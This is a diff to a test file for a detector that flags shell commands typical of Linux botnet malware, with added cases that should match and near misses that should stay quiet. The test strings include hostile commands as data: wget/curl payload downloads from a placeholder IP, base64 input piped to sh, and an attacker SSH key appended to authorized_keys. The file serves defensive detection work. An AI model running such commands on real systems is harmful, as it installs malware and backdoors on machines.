@@ -23,6 +23,9 @@ describe("common linux bots: unique marks", () => {
     "lockr -ia .ssh",
     "/tmp/.X31-unix/.rsync/c/run",
     "cat /var/tmp/.systemcache12345",
+    "mkdir /tmp/.X52-unix",
+    "./q.arm6 telnet",
+    "/tmp/.q/w.mipsel.ko",
     "ls -la /var/run/gcc.pid",
   ])("%s", (line) => {
     expect(new ShellHost(commonLinuxBots).run(line)).toHaveLength(1);
@@ -35,6 +38,8 @@ describe("common linux bots: unique marks", () => {
     "for a in mips arm7 x86; do wget http://203.0.113.9/$a; done",
     "echo -ne '\\x7f\\x45\\x4c\\x46\\x01' > .d",
     "while read i; do echo $i; done < /bin/echo",
+    "wget http://203.0.113.9/q.sh || curl -O http://203.0.113.9/q.sh",
+    "cd /var/tmp; echo ZWNobyBoaQo= | base64 -d | sh",
     "echo 'ssh-rsa AAAA mdrfckr' >> .ssh/authorized_keys",
   ])("in a line: %s", (line) => {
     expect(new ShellHost(commonLinuxBots).line(line)).toHaveLength(1);
@@ -44,6 +49,10 @@ describe("common linux bots: unique marks", () => {
     "busybox sh -c ls",
     "/bin/busybox httpd -p 80",
     "busybox --list",
+    "ls /tmp/.X11-unix",
+    "./tool-linux-arm64 serve",
+    "./game.x86_64",
+    "python3 gen.mips",
     "docker run --rm busybox echo HELLO",
     "apk upgrade busybox",
     "chmod 777 /srv/share",
@@ -59,6 +68,14 @@ describe("common linux bots: unique marks", () => {
   ])("near miss stays quiet: %s", (line) => {
     expect(new ShellHost(commonLinuxBots).run(line)).toEqual([]);
   });
+});
+
+test.each([
+  "wget https://files.example/q.sh || curl -O https://files.example/q.sh",
+  "cd /srv; echo ZWNobyBoaQo= | base64 -d | sh",
+  "cd /tmp; echo ZWNobyBoaQo= | base64 -d > hi",
+])("near miss in a line stays quiet: %s", (line) => {
+  expect(new ShellHost(commonLinuxBots).line(line)).toEqual([]);
 });
 
 describe("common linux bots: two weak marks", () => {
